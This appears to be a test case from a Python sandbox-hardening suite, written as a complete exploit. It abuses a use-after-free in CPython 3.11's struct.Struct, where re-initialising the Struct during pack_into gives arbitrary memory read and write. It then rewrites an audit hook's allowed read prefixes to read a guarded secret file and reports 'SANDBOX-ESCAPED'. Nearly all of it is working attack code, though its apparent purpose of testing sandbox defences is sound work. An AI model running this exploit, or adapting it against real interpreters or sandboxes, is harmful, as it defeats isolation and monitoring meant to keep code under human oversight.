# expect: ok
# expect-kernel: ok|crashed|memory_limit
# value: 1
# `struct.Struct.__init__` may run again on a live Struct (CPython 3.11): it makes the format's table of codes anew
# and frees the old one. `pack_into` checked the buffer against the old size, then walks the old table, asking each
# value for its number (`__index__`, Python code of the code's own) as it goes: a value that initialises the Struct
# twice from there frees the table the walk holds and has the second format's codes take the freed block, so the
# walk goes on with codes whose offsets the code chose ("Q<n>xQQQQ"), far past the buffer it checked: 8 chosen bytes
# at each, no audit event. An array's buffer, whose address `buffer_info()` gives, and a bytearray above it whose
# address `id()` gives: its header's size set huge and its data pointer 0, it reads and writes all memory. From there
# the hook's frozen read prefixes (the frame of a refusal it makes unreported hands them out) gain "/", and the secret
# file is read where the hook is what guards it. The same second `__init__` under `iter_unpack` read past its buffer
# (the heap's pointers), and under `pack` returned bytes of the C stack. With the hook a Struct is initialised once,
# when it is made (1); without it native code is assumed anyway (the write, or a crash: 1).
import os
import struct
from array import array

HELD = []  # everything the write could land on, kept for good


class Renew:
    """The first value: asked for its number while `pack_into` walks the codes, it initialises the Struct twice."""

    def __init__(self, packer, far):
        self.packer, self.far = packer, far

    def __index__(self):
        self.packer.__init__("QQQQQ")  # a fresh table: the one the walk holds is freed
        self.packer.__init__(f"Q{self.far - 8}xQQQQ")  # and taken again by these codes
        return 0


def window():
    """A bytearray whose header says it starts at address 0 and is 2**62 bytes long: any address."""
    for _ in range(20):
        buffer = array("B", bytes(64))
        start = buffer.buffer_info()[0]
        victims = [bytearray(b"v" * 16) for _ in range(64)]
        HELD.append((buffer, victims))
        above = [victim for victim in victims if id(victim) > start and (id(victim) - start) % 8 == 0]
        if not above:
            continue
        victim, packer = above[0], struct.Struct("QQQQQ")
        HELD.append(packer)
        far = id(victim) - start + 16  # its size, then allocated, data and start pointers

        try:
            packer.pack_into(buffer, 0, Renew(packer, far), 1 << 62, (1 << 62) + 1, 0, 0)
        except Exception:
            return None
        if len(victim) == 1 << 62:
            return victim
    return None


def hook_frame():
    """The hook's frame, from a refusal it makes without a report (a hard link in the scratch)."""
    with open("a", "w"):
        pass
    try:
        os.link("a", "b")
    except OSError as exc:
        tb = exc.__traceback__
        while tb is not None:
            if tb.tb_frame.f_code.co_name == "hook":
                return tb.tb_frame
            tb = tb.tb_next
    return None


def check(secret_file, **p):
    frame = hook_frame()
    memory = window()
    if memory is None or frame is None:  # no hook here: native code is assumed anyway
        return 1
    prefixes, root = frame.f_locals["read_prefixes"], "/"
    memory[id(prefixes) + 24:id(prefixes) + 32] = id(root).to_bytes(8, "little")  # the prefixes' first item
    try:
        with open(secret_file) as fh:
            return "SANDBOX-ESCAPED a Struct initialised again while it packs: " + fh.read()
    except OSError:
        return "SANDBOX-ESCAPED raw memory with the hook running, through a Struct initialised again while it packs"
